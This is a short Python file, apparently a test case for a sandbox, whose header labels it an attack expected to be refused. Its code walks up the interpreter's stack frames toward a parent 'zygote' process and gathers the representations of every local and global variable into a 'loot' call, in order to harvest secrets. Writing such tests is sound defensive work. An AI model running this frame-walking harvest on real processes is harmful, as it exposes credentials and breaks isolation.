# /// attack
# tries = "walk from its own frame up to the zygote's, and print every local that holds a secret"
# refused = true
# ///

import sys


def climb():
    frame, texts = sys._getframe(), []
    while frame is not None:
        texts += [repr(value)[:10_000] for value in [*frame.f_locals.values(), *frame.f_globals.values()]]
        frame = frame.f_back
    return loot(texts)


attempt("climb", climb)
